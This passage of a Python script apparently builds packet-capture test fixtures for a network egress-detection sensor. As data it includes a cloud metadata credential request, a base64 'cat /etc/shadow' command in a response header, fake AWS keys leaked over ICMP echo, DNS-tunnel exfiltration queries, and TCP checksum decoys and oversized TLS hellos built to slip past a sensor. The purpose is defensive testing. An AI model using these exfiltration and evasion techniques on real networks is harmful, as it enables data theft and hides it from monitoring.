    # 5. a head past HTTP_HEAD_HOLD (three 3 KB fields), read a line at a
    #    time, then the client's FIN
    c = TcpConn(clk, CLIENT4, "203.0.113.80", 41104, 80, 5000, 9000, smac=MAC_GW)
    recs += c.handshake()
    head = (b"POST /up HTTP/1.1\r\nHost: long.example.net\r\n" +
            b"".join(b"X-Pad%d: " % i + b"k" * 3000 + b"\r\n" for i in range(3)) +
            b"X-After: 1")
    for i in range(0, len(head), 1400):
        recs.append(c.c_send(head[i:i + 1400], step=100))
    recs += c.close()
    # 6. a request line without its line end, then the client's FIN: read
    #    as it stands (a registered method and a target)
    c = TcpConn(clk, CLIENT4, "203.0.113.80", 41105, 80, 6000, 10000, smac=MAC_GW)
    recs += c.handshake()
    recs.append(c.c_send(b"GET /no-line-end-6b2d"))
    recs += c.close()
    # 7. a head still open when the capture ends: reported as its flow
    #    ends, at its last packet's time
    c = TcpConn(clk, CLIENT4, "203.0.113.80", 41106, 80, 7000, 11000, smac=MAC_GW)
    recs += c.handshake()
    recs.append(c.c_send(b"GET /open/77aa HTTP/1.1\r\nHost: open.example.net\r\n"))
    recs.append(c.s_ack())
    write_pcap(os.path.join(out, "http_unfinished.pcap"), LINKTYPE_ETHERNET, recs)

def gen_http_unfinished_response(out):
    """Response heads the connection (or the capture) ends in the middle
    of: the client has read a status line, and perhaps fields, that no
    whole response ever completes."""
    clk = Clock(BASE_US + 7400 * 1000000)
    recs = []
    meta = b"GET /latest/meta-data/iam/security-credentials/ HTTP/1.1\r\nHost: 169.254.169.254\r\n\r\n"
    # 1. the metadata service's 200 and a field, then the server's RST
    c = TcpConn(clk, CLIENT4, "169.254.169.254", 41200, 80, 1000, 5000, smac=MAC_GW)
    recs += c.handshake()
    recs.append(c.c_send(meta))
    recs.append(c.s_send(b"HTTP/1.1 200 OK\r\nContent-Type: text/plain\r\n", step=400))
    recs.append(c._pkt(False, "RA", c.sseq, c.cseq, step=300))
    # 2. data in the fields of a head never ended, then the server's FIN
    c = TcpConn(clk, CLIENT4, "203.0.113.80", 41201, 80, 2000, 6000, smac=MAC_GW)
    recs += c.handshake()
    recs.append(c.c_send(b"GET /poll HTTP/1.1\r\nHost: drop.example.net\r\n\r\n"))
    recs.append(c.s_send(b"HTTP/1.1 200 OK\r\nX-Cmd: Y2F0IC9ldGMvc2hhZG93\r\n", step=400))
    recs.append(c._pkt(False, "FA", c.sseq, c.cseq, step=300))
    c.sseq += 1
    recs.append(c._pkt(True, "FA", c.cseq, c.sseq, step=300))
    # 3. a status line without its line end, then the server's FIN: read
    #    as it stands
    c = TcpConn(clk, CLIENT4, "203.0.113.80", 41202, 80, 3000, 7000, smac=MAC_GW)
    recs += c.handshake()
    recs.append(c.c_send(b"GET /three HTTP/1.1\r\nHost: drop.example.net\r\n\r\n"))
    recs.append(c.s_send(b"HTTP/1.1 403 Forbidden", step=400))
    recs.append(c._pkt(False, "FA", c.sseq, c.cseq, step=300))
    # 4. the client's FIN while the head is open says nothing (the server
    #    may still send); the rest of the head comes, whole: one event
    c = TcpConn(clk, CLIENT4, "203.0.113.80", 41203, 80, 4000, 8000, smac=MAC_GW)
    recs += c.handshake()
    recs.append(c.c_send(b"GET /four HTTP/1.1\r\nHost: drop.example.net\r\n\r\n"))
    recs.append(c.s_send(b"HTTP/1.1 204 No Content\r\n", step=400))
    recs.append(c._pkt(True, "FA", c.cseq, c.sseq, step=300))
    c.cseq += 1
    recs.append(c.s_send(b"Server: four\r\n\r\n", step=300))
    recs.append(c._pkt(False, "RA", c.sseq, c.cseq, step=300))
    # 5. a FIN sent ahead of the rest of the head: the head as the FIN
    #    found it, then the whole head, paired with the same request
    c = TcpConn(clk, CLIENT4, "203.0.113.80", 41204, 80, 5000, 9000, smac=MAC_GW)
    recs += c.handshake()
    recs.append(c.c_send(b"GET /five HTTP/1.1\r\nHost: drop.example.net\r\n\r\n"))
    rest = b"Server: five\r\n\r\n"
    recs.append(c.s_send(b"HTTP/1.1 204 No Content\r\n", step=400))
    recs.append(c._pkt(False, "FA", c.sseq + len(rest), c.cseq, step=300))
    recs.append(c.s_send(rest, step=300))
    recs.append(c._pkt(True, "RA", c.cseq, c.sseq + 1, step=300))
    # 6. a head past HTTP_HEAD_HOLD (three 3 KB fields), read a line at a
    #    time, then the server's FIN
    c = TcpConn(clk, CLIENT4, "203.0.113.80", 41205, 80, 6000, 10000, smac=MAC_GW)
    recs += c.handshake()
    recs.append(c.c_send(b"GET /six HTTP/1.1\r\nHost: long.example.net\r\n\r\n"))
    head = (b"HTTP/1.1 200 OK\r\n" +
            b"".join(b"X-Pad%d: " % i + b"k" * 3000 + b"\r\n" for i in range(3)) +
            b"X-After: 1")
    for i in range(0, len(head), 1400):
        recs.append(c.s_send(head[i:i + 1400], step=100))
    recs.append(c._pkt(False, "FA", c.sseq, c.cseq, step=300))
    # 7. bytes that are no status line, then a RST: nothing to report;
    #    and the start of a status line too short to read as one
    c = TcpConn(clk, CLIENT4, "203.0.113.80", 41206, 80, 7000, 11000, smac=MAC_GW)
    recs += c.handshake()
    recs.append(c.c_send(b"GET /seven HTTP/1.1\r\nHost: drop.example.net\r\n\r\n"))
    recs.append(c.s_send(b"SSH-2.0-OpenSSH_9.2", step=400))
    recs.append(c._pkt(False, "RA", c.sseq, c.cseq, step=300))
    c = TcpConn(clk, CLIENT4, "203.0.113.80", 41207, 80, 8000, 12000, smac=MAC_GW)
    recs += c.handshake()
    recs.append(c.c_send(b"GET /eight HTTP/1.1\r\nHost: drop.example.net\r\n\r\n"))
    recs.append(c.s_send(b"HTTP/1.1 2", step=400))
    recs.append(c._pkt(True, "RA", c.cseq, c.sseq, step=300))
    # 8. a head still open when the capture ends: reported as its flow
    #    ends, at its last packet's time
    c = TcpConn(clk, CLIENT4, "203.0.113.80", 41208, 80, 9000, 13000, smac=MAC_GW)
    recs += c.handshake()
    recs.append(c.c_send(b"GET /open HTTP/1.1\r\nHost: open.example.net\r\n\r\n"))
    recs.append(c.s_send(b"HTTP/1.1 302 Found\r\nLocation: http://open.example.net/x\r\n",
                         step=400))
    recs.append(c.c_ack())
    write_pcap(os.path.join(out, "http_unfinished_response.pcap"), LINKTYPE_ETHERNET, recs)

def gen_icmp_slow(out):
    """ICMP echo channels under the minute's count of different data (at
    most 8 a minute to one peer), and pingers beside them. A request every
    55 s for 64 minutes from each of four hosts to one peer each, every
    request answered with its own bytes:
      10.99.0.21  a file 15 bytes a ping, the whole payload (ping -s 15 -p):
                  the 61st different datum in the hour is raised, once;
      10.99.0.22  iputils ping (56 bytes: a little-endian timeval, then
                  bytes counting up from 0x10): quiet;
      10.99.0.23  BSD ping (a tv32 in network order, then the count): quiet;
      10.99.0.24  a pinger whose send time runs ten times too fast (the
                  lead is no clock, so data): raised like the first."""
    clk = Clock(BASE_US + 9000 * 1000000)
    recs = []
    secret = (b"aws_access_key_id = AKIAEXAMPLE7QX2KJ4ZT\n"
              b"aws_secret_access_key = wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY\n") * 10
    peer = "203.0.113.44"

    def count_up(n, start=0x10):
        return bytes((start + i) & 0xFF for i in range(n))

    for i in range(70):
        t = clk(55 * 1000000)
        sec, usec = (t // 1000000) - 3, t % 1000000  # the senders' clocks, 3 s behind
        fast = (t - BASE_US) * 10 + BASE_US
        payloads = [
            ("10.99.0.21", secret[15 * i:15 * i + 15]),
            ("10.99.0.22", struct.pack("<QQ", sec, usec) + count_up(40)),
            ("10.99.0.23", struct.pack(">II", sec, usec) + count_up(48, 0x08)),
            ("10.99.0.24", struct.pack("<QQ", fast // 1000000, fast % 1000000) + count_up(40)),
        ]
        for k, (src, data) in enumerate(payloads):
            req = IP(src=src, dst=peer, id=0x6000 + i, ttl=64) / ICMP(type=8, id=0x700 + k, seq=i) / Raw(data)
            rep = IP(src=peer, dst=src, id=0x6800 + i, ttl=60) / ICMP(type=0, id=0x700 + k, seq=i) / Raw(data)
            recs.append((t + 1000 * k, ether(MAC_CLIENT, MAC_GW, req)))
            recs.append((t + 1000 * k + 400, ether(MAC_GW, MAC_CLIENT, rep)))
    write_pcap(os.path.join(out, "icmp_slow.pcap"), LINKTYPE_ETHERNET, recs)


def gen_ooo_many(out):
    """Messages sent after many one-byte segments of their own bytes, sent
    ahead and apart (R22-F5): a Linux receiver holds thousands such and
    reads the message whole once the rest comes in order. The flow table
    skipped its first hole past 16 held ranges, which lost the message's
    start: a metadata credentials request, a DNS query over TCP and a
    ClientHello after 40 such segments, and a request after 1,100 (more
    than the 1,024 ranges a direction holds: the rest are not held, and
    the bytes in order fill every hole)."""
    clk = Clock(BASE_US + 7400 * 1000000)
    recs = []

    def ahead(c, data, k, send):
        start = c.cseq
        for j in range(k):
            off = 10 + 2 * j
            recs.append(send(data[off:off + 1], step=100, advance=False, seq=start + off))
        for i in range(0, len(data), 1400):
            recs.append(send(data[i:i + 1400], step=100))
        recs.append(c.s_ack())
        recs.extend(c.close())
    c = TcpConn(clk, CLIENT4, "169.254.169.254", 41200, 80, 1000, 5000, smac=MAC_GW)
    recs += c.handshake()
    ahead(c, b"GET /latest/meta-data/iam/security-credentials/ HTTP/1.1\r\n"
             b"Host: 169.254.169.254\r\nX-Pad: " + b"p" * 40 + b"\r\n\r\n", 40, c.c_send)
    c = TcpConn(clk, CLIENT4, "198.51.100.53", 41201, 53, 2000, 6000, smac=MAC_GW)
    recs += c.handshake()
    ahead(c, lp(dns_msg(0x51a7, qd=[("mzxw6ytboi2dkmzt.k7q2x9v4.tunnel-exfil.example", 16)])),
          40, c.c_send)
    c = TcpConn(clk, CLIENT4, "198.51.100.44", 41202, 443, 3000, 7000, smac=MAC_GW)
    recs += c.handshake()
    ahead(c, client_hello("ahead.exfil.example"), 40, c.c_send)
    c = TcpConn(clk, CLIENT4, "203.0.113.80", 41203, 80, 4000, 8000, smac=MAC_GW)
    recs += c.handshake()
    ahead(c, b"GET /after/1100 HTTP/1.1\r\nHost: many.example.net\r\nX-Pad: " +
          b"p" * 2250 + b"\r\n\r\n", 1100, c.c_send)
    write_pcap(os.path.join(out, "ooo_many.pcap"), LINKTYPE_ETHERNET, recs)

# ---------------------------------------------------------------- tls_big


def big_hello_records(sni, pad_type, pad_len, cuts=(), rec_max=16384):
    """A TLS 1.3 ClientHello with a pad_len-byte extension of pad_type
    (padding, or a type no one knows) before server_name, so that a big pad
    puts the SNI past the sensor's 16 KiB window; as records cut at each
    message offset of cuts (and at rec_max bytes). Returns (stream, hs, the
    stream offsets where server_name starts and each record starts)."""
    def ext(t, body):
        return struct.pack("!HH", t, len(body)) + body
    name = sni.encode()
    exts = ext(43, b"\x04\x03\x04\x03\x03")
    exts += ext(pad_type, bytes(pad_len))
    sni_at = len(exts)
    exts += ext(0, struct.pack("!HBH", len(name) + 3, 0, len(name)) + name)
    exts += ext(16, b"\x00\x0c\x02h2\x08http/1.1")
    exts += ext(13, b"\x00\x08\x04\x03\x08\x04\x04\x01\x05\x03")
    exts += ext(10, b"\x00\x04\x00\x1d\x00\x17")
    exts += ext(51, struct.pack("!HHH", 36, 0x001D, 32) + hashlib.sha256(sni.encode()).digest())
    rnd = hashlib.sha256(b"big random " + name).digest()
    sid = hashlib.sha256(b"big session " + name).digest()
    suites = b"\x13\x01\x13\x02\x13\x03\xc0\x2b\xc0\x2f"
    body = b"\x03\x03" + rnd + bytes([32]) + sid + struct.pack("!H", len(suites)) + suites
    body += b"\x01\x00" + struct.pack("!H", len(exts))
    sni_at += 4 + len(body)
    body += exts
    hs = b"\x01" + struct.pack("!I", len(body))[1:] + body
    stream, starts, off, sni_stream = b"", [], 0, None
    bounds = sorted(set(c for c in cuts if 0 < c < len(hs)))
    while off < len(hs):
        end = min([c for c in bounds if c > off] + [off + rec_max, len(hs)])
        starts.append(len(stream))
        if off <= sni_at < end:
            sni_stream = len(stream) + 5 + sni_at - off
        stream += b"\x16\x03\x01" + struct.pack("!H", end - off) + hs[off:end]
        off = end
    return stream, hs, sni_stream, starts


def gen_tls_big(out):
    """ClientHellos too big for the sensor's 16 KiB window, each with its SNI
    past it: 20 KB behind an extension no one knows, in records of 16 KiB
    and the rest, in one segment of 20 KB and a short one (as a capture made
    with segmentation offload shows it); 40 KB behind padding, in
    records cut around server_name's header and inside the host_name, sent
    one byte at a time around those edges; and a 2.9 KB hello in records of
    one byte each (18 KB of stream). A ServerHello answers the first. Before
    the streaming walk, the three gave no name."""
    clk = Clock(BASE_US + 18000 * 1000000)
    srv = "203.0.113.44"
    sh_exts = (b"\x00\x2b\x00\x02\x03\x04" + b"\x00\x33\x00\x24\x00\x1d\x00\x20" +
               hashlib.sha256(b"big server share").digest())
    sh = (b"\x03\x03" + hashlib.sha256(b"big server random").digest() + b"\x20" +
          hashlib.sha256(b"big session hidden20k.example.test").digest() + b"\x13\x01\x00" +
          struct.pack("!H", len(sh_exts)) + sh_exts)
    sh = b"\x02" + struct.pack("!I", len(sh))[1:] + sh
    server_hello = b"\x16\x03\x03" + struct.pack("!H", len(sh)) + sh
    recs = []
    # 20 KB, an unknown extension before server_name
    c = TcpConn(clk, CLIENT4, srv, 44001, 443, 0x51000000, 0x52000000, smac=MAC_GW)
    recs += c.handshake()
    stream, hs, _, _ = big_hello_records("hidden20k.example.test", 0x7777, 20000)
    recs.append(c.c_send(stream[:20000], step=50))
    recs.append(c.c_send(stream[20000:], step=50))
    recs.append(c.s_send(server_hello, step=800))
    recs += c.close()
    # 40 KB behind padding, cut inside server_name, one-byte segments there
    c = TcpConn(clk, CLIENT4, srv, 44002, 443, 0x53000000, 0x54000000, smac=MAC_GW)
    recs += c.handshake()
    _, hs, _, _ = big_hello_records("hidden40k.example.test", 21, 40000)
    at = hs.index(b"hidden40k.example.test") - 9  # server_name's header
    stream, hs, sni, starts = big_hello_records("hidden40k.example.test", 21, 40000,
                                                cuts=(at, at + 1, at + 5, at + 12, at + 20))
    marks = starts + [sni]
    off = 0
    while off < len(stream):
        n = 1 if any(m - 3 <= off <= m + 3 for m in marks) else 1448
        nxt = [m - 3 for m in marks if m - 3 > off]
        if nxt and n > min(nxt) - off:
            n = min(nxt) - off
        recs.append(c.c_send(stream[off:off + n], step=50))
        off += n
    recs += c.close()
    # 2.9 KB in records of one byte each
    c = TcpConn(clk, CLIENT4, srv, 44003, 443, 0x55000000, 0x56000000, smac=MAC_GW)
    recs += c.handshake()
    stream, _, _, _ = big_hello_records("onebyte.example.test", 21, 2600, rec_max=1)
    for i in range(0, len(stream), 1448):
        recs.append(c.c_send(stream[i:i + 1448], step=50))
    recs += c.close()
    write_pcap(os.path.join(out, "tls_big.pcap"), LINKTYPE_ETHERNET, recs)


def gen_tls_hrr_big(out):
    """A TLS 1.3 ClientHello answered with a HelloRetryRequest (a ServerHello
    whose random is RFC 8446's HRR value, its key_share naming
    X25519MLKEM768), then ChangeCipherSpec and the second ClientHello, which
    is over 16 KiB (padding, as a big post-quantum key share or a client's
    padding makes it), in 1,448-byte segments: (1) 20 KB, its SNI other than
    the first's; (2) 40 KB, the same SNI; (3) 30 KB whose record layer
    breaks half-way (no event for it, as for a broken small one). Before
    the fix the big second hellos made no event."""
    clk = Clock(BASE_US + 19000 * 1000000)
    srv = "203.0.113.45"
    hrr_random = bytes.fromhex("cf21ad74e59a6111be1d8c021e65b891c2a211167abb8c5e079e09e2c8a8339c")
    sh_exts = b"\x00\x2b\x00\x02\x03\x04" + b"\x00\x33\x00\x02\x11\xec"
    sid = hashlib.sha256(b"demo session id").digest()
    hrr = (b"\x03\x03" + hrr_random + b"\x20" + sid + b"\x13\x01\x00" +
           struct.pack("!H", len(sh_exts)) + sh_exts)
    hrr = b"\x02" + struct.pack("!I", len(hrr))[1:] + hrr
    hrr = b"\x16\x03\x03" + struct.pack("!H", len(hrr)) + hrr + b"\x14\x03\x03\x00\x01\x01"
    ccs = b"\x14\x03\x03\x00\x01\x01"
    recs = []
    for n, (sni1, sni2, pad, broken) in enumerate((
            ("retry.example.test", "retry-second.hidden.test", 20000, False),
            ("retry40k.example.test", "retry40k.example.test", 40000, False),
            ("retry-broken.example.test", "retry-broken.hidden.test", 30000, True))):
        c = TcpConn(clk, CLIENT4, srv, 44101 + n, 443, 0x61000000 + 0x1000000 * n,
                    0x62000000 + 0x1000000 * n, smac=MAC_GW)
        recs += c.handshake()
        recs.append(c.c_send(client_hello(sni1), step=50))
        recs.append(c.s_send(hrr, step=800))
        stream, _, _, starts = big_hello_records(sni2, 21, pad)
        if broken:
            stream = stream[:starts[1]] + b"\x17" + stream[starts[1] + 1:]
        stream = ccs + stream
        for i in range(0, len(stream), 1448):
            recs.append(c.c_send(stream[i:i + 1448], step=50))
        recs.append(c.s_ack())
        recs += c.close()
    write_pcap(os.path.join(out, "tls_hrr_big.pcap"), LINKTYPE_ETHERNET, recs)

# ---------------------------------------------------------------- tcp_decoys


def gen_tcp_decoys(out):
    """Eight connections to 10.99.0.2:8080, each carrying one request for
    evil.example that a Linux receiver reads, and in most a decoy for
    good.example, of the same length at the same sequence numbers, that it
    does not read: (1) a decoy with a bad TCP checksum, (2) one with a bad
    IPv4 header checksum, both after a handshake whose checksums are right;
    (3) a client whose checksum offload left the pseudo-header's partial sum
    in every segment, and (4) a capture rewritten without fixing checksums
    (garbage in every client segment), neither with a decoy: both are read;
    (5) an urgent byte (MSG_OOB) sent inside the Host; (6) a decoy without
    ACK; (7) a decoy carried by the SYN, which the SYN-ACK does not take;
    (8) the request carried by the SYN and taken (TCP Fast Open)."""
    clk = Clock(BASE_US + 10800 * 1000000)
    srv, port = "10.99.0.2", 8080
    evil = b"GET / HTTP/1.1\r\nHost: evil.example\r\n\r\n"
    good = b"GET / HTTP/1.1\r\nHost: good.example\r\n\r\n"
    ipid = [0x6000]

    def partial(src, dst, tcplen):
        words = socket.inet_aton(src) + socket.inet_aton(dst) + struct.pack("!HH", 6, tcplen)
        s = sum(struct.unpack("!6H", words))
        while s >> 16:
            s = (s & 0xffff) + (s >> 16)
        return s

    def seg(client, sport, flags, seq, ack, data=b"", tcp_ck=None, ip_ck=None, urg=0,
            step=1000):
        ipid[0] += 1
        src, dst = (CLIENT4, srv) if client else (srv, CLIENT4)
        sp, dp = (sport, port) if client else (port, sport)
        ip = IP(src=src, dst=dst, id=ipid[0], ttl=64, flags="DF")
        if ip_ck is not None:
            ip.chksum = ip_ck
        t = TCP(sport=sp, dport=dp, seq=seq, ack=ack, flags=flags, urgptr=urg,
                window=64240 if client else 65160)
        if tcp_ck == "partial":
            t.chksum = partial(src, dst, 20 + len(data))
        elif tcp_ck is not None:
            t.chksum = tcp_ck
        p = ip / t
        if data:
            p = p / Raw(data)
        mac = (MAC_CLIENT, MAC_GW) if client else (MAC_GW, MAC_CLIENT)
        return (clk(step), ether(mac[0], mac[1], p))

    recs = []

    def conn(n, decoy=None, client_ck=None, syn_data=b"", tfo=False, urgent=False):
        sport, c, s = 42000 + n, 100000 * n, 900000 * n
        recs.append(seg(True, sport, "S", c, 0, syn_data, tcp_ck=client_ck, step=100000))
        c += 1
        took = len(syn_data) if tfo else 0
        recs.append(seg(False, sport, "SA", s, c + took, step=400))
        s += 1
        c += took
        recs.append(seg(True, sport, "A", c, s, tcp_ck=client_ck, step=100))
        if decoy:
            recs.append(seg(True, sport, decoy.get("flags", "PA"), c, s, good,
                            tcp_ck=decoy.get("tcp_ck"), ip_ck=decoy.get("ip_ck"), step=300))
        if urgent:
            cut = evil.index(b"il.example")
            data = evil[:cut] + b"X" + evil[cut:]
            recs.append(seg(True, sport, "PAU", c, s, data, urg=cut + 1, step=300))
            c += len(data)
        elif not tfo:
            recs.append(seg(True, sport, "PA", c, s, evil, tcp_ck=client_ck, step=300))
            c += len(evil)
        resp = b"HTTP/1.1 204 No Content\r\n\r\n"
        recs.append(seg(False, sport, "PA", s, c, resp, step=500))
        s += len(resp)
        recs.append(seg(True, sport, "FA", c, s, tcp_ck=client_ck, step=5000))
        recs.append(seg(False, sport, "FA", s, c + 1, step=300))
        recs.append(seg(True, sport, "A", c + 1, s + 1, tcp_ck=client_ck, step=100))

    conn(1, decoy={"tcp_ck": 0xdead})
    conn(2, decoy={"ip_ck": 0xbeef})
    conn(3, client_ck="partial")
    conn(4, client_ck=0x0bad)
    conn(5, urgent=True)
    conn(6, decoy={"flags": "P"})
    conn(7, syn_data=good)
    conn(8, syn_data=evil, tfo=True)
    write_pcap(os.path.join(out, "tcp_decoys.pcap"), LINKTYPE_ETHERNET, recs)

# ---------------------------------------------------------------- dns_malformed


def gen_dns_malformed(out):
    clk = Clock()
    u = UdpPair(clk, ipid=0x300)
    M = "bad.example.test"
    recs = []
    hdr = lambda id, flags, qd, an, ns, ar: struct.pack("!HHHHHH", id, flags, qd, an, ns, ar)
    qsec = lambda name, t=1: DnsBuilder_name(name) + struct.pack("!HH", t, 1)
    RESP = 0x8180

    # 1. compression loop: the answer's owner name is a pointer to itself.
    q = qsec("loop." + M)
    body = hdr(0x3001, RESP, 1, 1, 0, 0) + q
    off = len(body)
    body += struct.pack("!H", 0xC000 | off) + struct.pack("!HHIH", 1, 1, 60, 4) + bytes([192, 0, 2, 1])
    recs += [u.q(34001, dns_msg(0x3001, qd=[("loop." + M, "A")])), u.r(34001, body)]

    # 2. mutual loop inside CNAME rdata: two pointers at each other.
    body = hdr(0x3002, RESP, 1, 1, 0, 0) + qsec("loop2." + M, 5)
    body += b"\xc0\x0c" + struct.pack("!HHI", 5, 1, 60)
    rd_off = len(body) + 2
    body += struct.pack("!H", 4) + struct.pack("!HH", 0xC000 | (rd_off + 2), 0xC000 | rd_off)
    recs += [u.q(34002, dns_msg(0x3002, qd=[("loop2." + M, "CNAME")])), u.r(34002, body)]

    # 3. forward pointer: CNAME target points to a name that comes later (in a 2nd answer).
    body = hdr(0x3003, RESP, 1, 2, 0, 0) + qsec("fwd." + M)
    body += b"\xc0\x0c" + struct.pack("!HHI", 5, 1, 60)
    rd_at = len(body)
    body += struct.pack("!H", 2) + b"\0\0"            # placeholder pointer
    target_at = len(body)
    body += b"\x06target" + b"\xc0\x0c" + struct.pack("!HHIH", 1, 1, 60, 4) + bytes([192, 0, 2, 2])
    body = bytearray(body)
    struct.pack_into("!H", body, rd_at + 2, 0xC000 | target_at)
    recs += [u.q(34003, dns_msg(0x3003, qd=[("fwd." + M, "A")])), u.r(34003, bytes(body))]

    # 4. a legal 63-byte label, then a 64-byte label (length byte 0x40 = extended label type).
    l63 = [b"a" * 63, b"example", b"test"]
    recs += u.pair(34004, exchange(0x3004, l63, "A", rcode=3))
    body = hdr(0x3005, 0x0100, 1, 0, 0, 0) + bytes([64]) + b"b" * 64 + b"\x07example\x04test\x00"
    body += struct.pack("!HH", 1, 1)
    recs.append(u.q(34005, body))

    # 5. a name over 255 bytes: five 63-byte labels (321 bytes on the wire).
    big = [bytes([0x61 + i]) * 63 for i in range(5)]
    recs.append(u.q(34006, dns_msg(0x3006, qd=[(big, "A")])))

    # 6. counts that lie: ancount 3, one answer present; arcount 2, none present.
    r = dns_msg(0x3007, qr=True, qd=[("lie." + M, "A")],
                an=[rr("lie." + M, "A", 60, rd_a("192.0.2.7"))], counts=(1, 3, 0, 2))
    recs += [u.q(34007, dns_msg(0x3007, qd=[("lie." + M, "A")])), u.r(34007, r)]

    # 7. an A record with rdlength 5.
    body = hdr(0x3008, RESP, 1, 1, 0, 0) + qsec("rdlen." + M)
    body += b"\xc0\x0c" + struct.pack("!HHIH", 1, 1, 60, 5) + bytes([192, 0, 2, 8, 9])
    recs += [u.q(34008, dns_msg(0x3008, qd=[("rdlen." + M, "A")])), u.r(34008, body)]

    # 8. a message cut in the middle of its second answer (UDP/IP lengths agree with the cut).
    _, full = exchange(0x3009, "cut." + M, "A", an=[rr("cut." + M, "A", 60, rd_a("192.0.2.9")),
                                                    rr("cut." + M, "A", 60, rd_a("192.0.2.10"))])
    recs += [u.q(34009, dns_msg(0x3009, qd=[("cut." + M, "A")])), u.r(34009, full[:len(full) - 9])]

    # 9. a 7-byte "message" (shorter than the header).
    recs.append(u.q(34010, b"\x30\x0a\x01\x00\x00\x01\x00"))

    # 10. snaplen cut: the record holds 80 of the frame's bytes (caplen < len).
    _, full = exchange(0x300B, "snap." + M, "TXT",
                       an=[rr("snap." + M, "TXT", 60, rd_txt(["s" * 100]))])
    recs.append(u.q(34011, dns_msg(0x300B, qd=[("snap." + M, "TXT")])))
    ts, frame = u.r(34011, full)
    recs.append((ts, frame[:80], len(frame)))

    # 11. garbage on port 53 (fixed pseudo-random bytes).
    junk = hashlib.sha256(b"egresswatch garbage").digest() + hashlib.sha256(b"2").digest()[:12]
    recs.append(u.q(34012, junk))

    # 12. a good query and response after all that.
    recs += u.pair(34013, exchange(0x300D, "good." + M, "A",
                                   an=[rr("good." + M, "A", 60, rd_a("192.0.2.13"))]))
    write_pcap(os.path.join(out, "dns_malformed.pcap"), LINKTYPE_ETHERNET, recs)


def DnsBuilder_name(name):
    b = DnsBuilder(compress=False)
    b.buf = bytearray()
    b.name(name)
    return bytes(b.buf)

# ---------------------------------------------------------------- link types


def link_pair(id, label, addr="192.0.2.%d"):
    name = label + ".link.example.test"
    return exchange(id, name, "A", an=[rr(name, "A", 60, rd_a(addr % (id & 0xFF)))])


def gen_links(out):
    # 802.1Q and QinQ
    clk = Clock()
    recs = []
    for id, label, tags, sport in ((0x4001, "vlan", [Dot1Q(vlan=100, prio=0)], 35001),
                                   (0x4002, "qinq", [Dot1AD(vlan=200), Dot1Q(vlan=100)], 35002)):
        q, r = link_pair(id, label)
        for data, src, dst, mac, sp, dp, ipid in ((q, CLIENT4, DNS4, (MAC_CLIENT, MAC_DNS), sport, 53, id),
                                                  (r, DNS4, CLIENT4, (MAC_DNS, MAC_CLIENT), 53, sport, id + 0x100)):
            l2 = Ether(src=mac[0], dst=mac[1])
            for t in tags:
                l2 = l2 / t.copy()
            recs.append((clk(250000), bytes(l2 / ip4_udp(src, dst, sp, dp, data, ipid))))
    write_pcap(os.path.join(out, "link_vlan.pcap"), LINKTYPE_ETHERNET, recs)

    # Linux cooked v1 (outgoing query pkttype 4, incoming response pkttype 0)
    clk = Clock()
    q, r = link_pair(0x4003, "sll")
    recs = [(clk(250000), bytes(CookedLinux(pkttype=4, lladdrtype=1, lladdrlen=6,
                                            src=bytes.fromhex("02000099000a0000"), proto=0x0800)
                                / ip4_udp(CLIENT4, DNS4, 35003, 53, q, 0x4003))),
            (clk(1500), bytes(CookedLinux(pkttype=0, lladdrtype=1, lladdrlen=6,
                                          src=bytes.fromhex("0200009900350000"), proto=0x0800)
                              / ip4_udp(DNS4, CLIENT4, 53, 35003, r, 0x4103)))]
    q6, r6 = link_pair(0x4013, "sll6")
    recs += [(clk(250000), bytes(CookedLinux(pkttype=4, lladdrtype=1, lladdrlen=6,
                                             src=bytes.fromhex("02000099000a0000"), proto=0x86DD)
                                 / ip6_udp(CLIENT6, DNS6, 35013, 53, q6))),
             (clk(1500), bytes(CookedLinux(pkttype=0, lladdrtype=1, lladdrlen=6,
                                           src=bytes.fromhex("0200009900350000"), proto=0x86DD)
                               / ip6_udp(DNS6, CLIENT6, 53, 35013, r6)))]
    write_pcap(os.path.join(out, "link_sll.pcap"), LINKTYPE_LINUX_SLL, recs)

    # Linux cooked v2
    clk = Clock()
    q, r = link_pair(0x4004, "sll2")
    recs = [(clk(250000), bytes(CookedLinuxV2(proto=0x0800, ifindex=7, lladdrtype=1, pkttype=4,
                                              lladdrlen=6, src=bytes.fromhex("02000099000a0000"))
                                / ip4_udp(CLIENT4, DNS4, 35004, 53, q, 0x4004))),
            (clk(1500), bytes(CookedLinuxV2(proto=0x0800, ifindex=7, lladdrtype=1, pkttype=0,
                                            lladdrlen=6, src=bytes.fromhex("0200009900350000"))
                              / ip4_udp(DNS4, CLIENT4, 53, 35004, r, 0x4104)))]
    write_pcap(os.path.join(out, "link_sll2.pcap"), LINKTYPE_LINUX_SLL2, recs)

    # raw IP, v4 and v6
    clk = Clock()
    q, r = link_pair(0x4005, "raw4")
    q6, r6 = link_pair(0x4006, "raw6")
    recs = [(clk(250000), bytes(ip4_udp(CLIENT4, DNS4, 35005, 53, q, 0x4005))),
            (clk(1500), bytes(ip4_udp(DNS4, CLIENT4, 53, 35005, r, 0x4105))),
            (clk(250000), bytes(ip6_udp(CLIENT6, DNS6, 35006, 53, q6))),
            (clk(1500), bytes(ip6_udp(DNS6, CLIENT6, 53, 35006, r6)))]
    write_pcap(os.path.join(out, "link_raw.pcap"), LINKTYPE_RAW, recs)

    # BSD loopback / NULL: family in the writer's (little-endian) byte order
    clk = Clock()
    recs = []
    q, r = link_pair(0x4007, "null4")
    recs += [(clk(250000), struct.pack("<I", 2) + bytes(ip4_udp(CLIENT4, DNS4, 35007, 53, q, 0x4007))),
             (clk(1500), struct.pack("<I", 2) + bytes(ip4_udp(DNS4, CLIENT4, 53, 35007, r, 0x4107)))]
    for fam, id, sport in ((24, 0x4008, 35008), (28, 0x4009, 35009), (30, 0x400A, 35010)):
        q, r = link_pair(id, "null6-af%d" % fam)
        recs += [(clk(250000), struct.pack("<I", fam) + bytes(ip6_udp(CLIENT6, DNS6, sport, 53, q))),
                 (clk(1500), struct.pack("<I", fam) + bytes(ip6_udp(DNS6, CLIENT6, 53, sport, r)))]
    write_pcap(os.path.join(out, "link_null.pcap"), LINKTYPE_NULL, recs)

    # pcapng with interfaces of different link types (dumpcap -i eth0 -i lo
    # -i tun0 writes such files; libpcap 1.10 stops at the second interface),
    # and a second, big-endian section with other interfaces, as `cat` of two
    # captures gives. Each interface keeps time in its own resolution.
    clk = Clock()
    mac_c, mac_r = "02:00:00:99:00:0a", "02:00:00:99:00:35"
    q1, r1 = link_pair(0x4021, "ng-eth")
    q2, r2 = link_pair(0x4022, "ng-raw")
